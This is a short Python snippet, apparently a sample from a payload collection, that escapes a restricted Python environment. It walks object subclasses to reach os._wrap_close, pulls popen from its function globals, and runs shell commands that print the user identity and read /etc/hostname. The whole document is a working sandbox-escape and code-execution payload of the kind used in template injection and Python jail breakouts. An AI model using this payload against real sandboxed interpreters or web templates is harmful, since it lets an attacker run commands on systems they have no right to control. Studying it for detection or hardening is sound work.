# corpus: walk type.__subclasses__(object) to os._wrap_close and pull popen from __init__.__globals__
def find(name):
    for cls in type.__subclasses__(object):
        if name in repr(cls):
            return cls
    raise LookupError(name)

wrapper = find("wrap_close")
g = wrapper.__init__.__globals__
print(g["popen"]("id; cat /etc/hostname").read())
